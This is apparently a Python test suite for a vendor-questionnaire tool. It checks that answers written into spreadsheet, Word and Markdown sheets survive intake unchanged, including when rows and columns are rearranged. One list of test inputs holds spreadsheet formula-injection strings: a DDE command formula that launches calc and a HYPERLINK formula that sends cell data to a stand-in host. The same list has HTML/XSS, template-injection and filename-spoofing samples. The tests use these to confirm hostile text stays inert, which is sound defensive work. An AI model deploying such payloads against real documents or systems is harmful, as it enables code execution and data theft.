"""What a vendor writes into a sheet is what comes in: `intake(fill(questions(r), a)) == a`."""

from __future__ import annotations

import copy
import io
import random
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

import fill
from strategies import Case, Shape, cases, examples
from vendorscore.exchange import Intake, intake, questions
from vendorscore.foundation.problems import report
from vendorscore.library import load_rubric
from vendorscore.reading.text import FORBIDDEN
from vendorscore.response.model import Answer, Response, State
from vendorscore.rubric.model import Rubric

ONE = Shape(panel=False, most_vendors=1)


def sheet(rubric: Rubric, suffix: str) -> bytes:
    """A blank sheet."""
    with tempfile.TemporaryDirectory() as folder:
        return questions(rubric, Path(folder) / f"sheet{suffix}")[0].read_bytes()


def taken(data: bytes, suffix: str, rubric: Rubric) -> Intake:
    """What comes in from a filled sheet."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"filled{suffix}"
        path.write_bytes(data)
        return intake([path], rubric)


def same_answers(found: Intake, response: Response, rubric: Rubric, warned: frozenset[str] = frozenset()) -> None:
    """What came in is what was written, and so is what the response file says."""
    assert {one.code for one in found.problems} == warned, report(found.problems)
    (one,) = found.taken
    assert fill.given(one.response, rubric) == fill.given(response, rubric)
    again = taken(one.yaml.encode(), ".yaml", rubric)
    assert not again.problems, report(again.problems)
    assert again.taken[0].response == one.response


@given(cases(ONE))
@examples(12)
def test_a_filled_workbook_gives_back_its_answers(case: Case) -> None:
    """Whatever can be asked and answered comes back from a workbook, and from the response file written of it."""
    evaluation = case.build()
    rubric, response = evaluation.rubric, evaluation.responses[0]
    same_answers(taken(fill.xlsx(sheet(rubric, ".xlsx"), response, rubric), ".xlsx", rubric), response, rubric)


_NOTES = frozenset({"not-read"})
"""What is said of one's own notes."""


def shuffled(seed: int) -> Callable[[Any], None]:
    """Rows in another order, empty and noted rows between them, columns moved and added, sheets renamed."""

    def spoil(book: Any) -> None:
        order = random.Random(seed)
        for sheet in [book[name] for name in ("Questions", "Prices") if name in book.sheetnames]:
            head, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
            formats = [[cell.number_format for cell in row] for row in sheet.iter_rows(min_row=2)]
            pairs = list(zip(rows, formats, strict=True))
            order.shuffle(pairs)
            columns = list(range(len(head)))
            order.shuffle(columns)
            sheet.delete_rows(1, sheet.max_row)
            for column, old in enumerate(columns, start=2):
                sheet.cell(4, column).value = head[old]
            sheet.cell(4, len(head) + 3).value = "Our own notes"
            for number, (row, shown) in enumerate(pairs):
                for column, old in enumerate(columns, start=2):
                    cell = sheet.cell(6 + 2 * number, column)
                    cell.value, cell.number_format = row[old], shown[old]
                    if isinstance(row[old], str):
                        cell.data_type = "s"
                sheet.cell(6 + 2 * number, len(head) + 3).value = "to be checked by sales"
            sheet.title = f"{sheet.title} (ours)"
        book["Start"].title = "Über uns"
        book.create_sheet("Our cover", 0)["B2"] = "Dear all"

    return spoil


@given(cases(ONE), st.integers(0, 1000))
@examples(10)
def test_a_workbook_that_was_sorted_and_rearranged_gives_the_same(case: Case, seed: int) -> None:
    """Answers are found by the id in their row and the label of their column, wherever these stand."""
    evaluation = case.build()
    rubric, response = evaluation.rubric, evaluation.responses[0]
    filled = fill.xlsx(sheet(rubric, ".xlsx"), response, rubric, shuffled(seed))
    same_answers(taken(filled, ".xlsx", rubric), response, rubric, _NOTES)


TEXTS = load_rubric(
    {
        "rubric": "texts",
        "version": "1",
        "title": "Texts",
        "criteria": [
            {"id": "poc", "type": "yes_no", "weight": 1, "evidence": "required", "allow_na": "yes"},
            {"id": "words", "type": "text"},
            {"id": "story", "type": "rating", "weight": 1, "max": 5},
        ],
    }
)
_ANY = st.text(max_size=200).map(lambda text: FORBIDDEN.sub("", text.replace("\r", "")).strip())
_HOSTILE = st.sampled_from(
    (
        "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A1", '=HYPERLINK("http://e/?"&A1)', "'quoted", "00123", "1E5",
        "### `poc` Proof of concept", "- Answer: yes", "```\n# words\n```", "<!-- poc -->", "</script><img onerror=x>",
        "{{ 7*7 }}", "null", "~", "no", "#N/A", "_x0041_", "line one\n\n  indented\nlast", "a\tb", "“quoted” – dash",
        "\u202egpj.exe", "Yes\u200b", "\ufdfa", "é e\u0301", "🙂", "- [x] poc", "  ", "| a | b |", "key: value # no",
    )
)  # fmt: skip
WORDS = (_ANY | _HOSTILE).filter(lambda text: bool(text.strip()) and not FORBIDDEN.search(text)).map(str.strip)


def _is_a_reason(text: str) -> bool:
    """A bare yes or no is none."""
    return text.lower() not in ("yes", "no", "true", "false")


@st.composite
def wordy(draw: st.DrawFn) -> Response:
    """A response of free text, in every place where a vendor writes some."""
    reason, comment, words = draw(WORDS.filter(_is_a_reason)), draw(WORDS), draw(WORDS)
    state = draw(st.sampled_from((State.DECLINED, State.NOT_APPLICABLE)))
    answers = {
        "poc": Answer(state, None, (), comment, reason),
        "words": Answer(State.GIVEN, words, (), draw(WORDS)),
        "story": Answer(State.GIVEN, draw(WORDS)),
    }
    return Response("acme", "Acme", answers)


@given(wordy())
@examples(25)
def test_hostile_text_survives_a_workbook_letter_by_letter(response: Response) -> None:
    """Text that looks like a formula, a heading or a number, or that hides something, comes back as it was."""
    same_answers(taken(fill.xlsx(sheet(TEXTS, ".xlsx"), response, TEXTS), ".xlsx", TEXTS), response, TEXTS)


def test_no_cell_of_a_sheet_is_a_formula() -> None:
    """A rubric's own text that begins like a formula is text in the workbook."""
    rubric = load_rubric(
        {
            "rubric": "formulas",
            "version": "1",
            "title": "=1+1",
            "criteria": [
                {
                    "id": "a",
                    "type": "choice",
                    "title": "=A1",
                    "weight": 1,
                    "guidance": "@x",
                    "options": {"=k": 1, "b": 0},
                }
            ],
        }
    )
    book = openpyxl.load_workbook(io.BytesIO(sheet(rubric, ".xlsx")))
    assert not [cell for page in book for row in page.iter_rows() for cell in row if cell.data_type == "f"]
    assert sheet(rubric, ".xlsx") == sheet(rubric, ".xlsx")


# ---------------------------------------------------------------- documents


@given(cases(ONE))
@examples(12)
def test_a_filled_document_gives_back_its_answers(case: Case) -> None:
    """The same for a text document."""
    evaluation = case.build()
    rubric, response = evaluation.rubric, evaluation.responses[0]
    same_answers(taken(fill.document(sheet(rubric, ".docx"), response, rubric), ".docx", rubric), response, rubric)


def moved(seed: int) -> Callable[[Any], None]:
    """Rows in another order and in one table, notes between them, columns moved and added, tables of one's own."""

    def spoil(opened: Any) -> None:
        order = random.Random(seed)
        start, *tables, more = opened.tables
        head = copy.deepcopy(tables[0].rows[0]._tr)
        rows = [row._tr for table in tables for row in list(table.rows)[1:]]
        columns = list(range(3))
        order.shuffle(columns)
        order.shuffle(rows)
        for number, row in enumerate([head, *rows]):
            cells = [row.tc_lst[old] for old in columns]
            note = copy.deepcopy(cells[0])
            for child in list(note)[1:]:
                note.remove(child)
            note.add_p().add_r().text = "Our own notes" if number == 0 else "to be checked by sales"
            for cell in [*cells, note]:
                row.append(cell)
        kept, *others = tables
        for table in others:
            table._tbl.getparent().remove(table._tbl)
        for row in kept.rows:
            kept._tbl.remove(row._tr)
        across = copy.deepcopy(head)
        for cell in across.tc_lst[1:]:
            across.remove(cell)
        kept._tbl.extend([across, head, *(one for row in rows for one in (row, copy.deepcopy(across)))])
        cover = opened.add_table(2, 2)
        cover.cell(0, 0).text, cover.cell(1, 1).text = "Dear all", "Id"
        start._tbl.addprevious(cover._tbl)
        start._tbl.addprevious(more._tbl)
        opened.add_paragraph("### poc")

    return spoil


@given(cases(ONE), st.integers(0, 1000))
@examples(10)
def test_a_document_whose_rows_and_columns_were_moved_gives_the_same(case: Case, seed: int) -> None:
    """Answers are found by the id in their row and the head of their column, in whatever table they stand."""
    evaluation = case.build()
    rubric, response = evaluation.rubric, evaluation.responses[0]
    filled = fill.document(sheet(rubric, ".docx"), response, rubric, moved(seed))
    same_answers(taken(filled, ".docx", rubric), response, rubric, _NOTES)


@given(wordy())
@examples(25)
def test_hostile_text_survives_a_document_letter_by_letter(response: Response) -> None:
    """No text of an answer passes for an id, a head or another answer."""
    same_answers(taken(fill.document(sheet(TEXTS, ".docx"), response, TEXTS), ".docx", TEXTS), response, TEXTS)


# ---------------------------------------------------------------- Markdown


@given(cases(ONE))
@examples(60)
def test_a_filled_markdown_sheet_gives_back_its_answers(case: Case) -> None:
    """The same for a sheet as text."""
    evaluation = case.build()
    rubric, response = evaluation.rubric, evaluation.responses[0]
    filled = fill.markdown(sheet(rubric, ".md").decode(), response, rubric)
    same_answers(taken(filled.encode(), ".md", rubric), response, rubric)


@given(wordy())
@examples(150)
def test_hostile_text_survives_markdown_letter_by_letter(response: Response) -> None:
    """No text of an answer passes for a heading, a field, a tick or another answer."""
    filled = fill.markdown(sheet(TEXTS, ".md").decode(), response, TEXTS)
    same_answers(taken(filled.encode(), ".md", TEXTS), response, TEXTS)
